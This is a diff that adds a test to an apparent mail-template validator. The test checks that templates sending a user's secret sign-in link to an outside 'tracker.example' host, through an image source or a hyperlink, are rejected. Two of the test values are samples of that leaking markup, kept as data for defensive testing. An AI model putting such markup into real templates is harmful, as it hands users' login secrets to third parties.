@@ -172,6 +172,19 @@ def test_files_that_are_refused(tmp_path: Path, name: str, source: str, words: s
     assert any(words in one for one in found), found
 
 
+def test_the_secret_of_a_link_goes_to_nobody_else(tmp_path: Path) -> None:
+    source = '{% extends "sso/mail/message.html" %}{% block header %}BODY{% endblock %}'
+    for body, fits in {
+        '<a href="{{ link }}">{{ action }}</a>': True,
+        '<a href="{{ base_url }}/account" style="color:red">x</a>': True,
+        '<img src="https://acme.example/logo.png" alt="">': True,
+        '<img src="https://tracker.example/?{{ link }}" alt="">': False,
+        '<a href="https://tracker.example/?{{ link }}">x</a>': False,
+    }.items():
+        found = errors(tmp_path, source.replace("BODY", body), "mail/message.html")
+        assert (found == []) is fits, found
+
+
 def test_every_error_at_once(tmp_path: Path) -> None:
     (tmp_path / "nowhere.html").write_text("")
     (tmp_path / "sign_up.html").write_bytes(b"\xff")
